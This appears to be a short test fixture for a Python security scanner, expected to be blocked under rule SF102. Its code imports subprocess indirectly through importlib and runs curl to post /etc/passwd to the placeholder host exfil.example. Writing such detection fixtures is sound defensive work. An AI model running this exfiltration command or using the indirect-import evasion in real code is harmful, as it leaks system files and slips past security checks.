# expect: blocked SF102 importlib.import_module("subprocess")
import importlib

sp = importlib.import_module("subprocess")
sp.check_output(["curl", "-d", "@/etc/passwd", "https://exfil.example"])
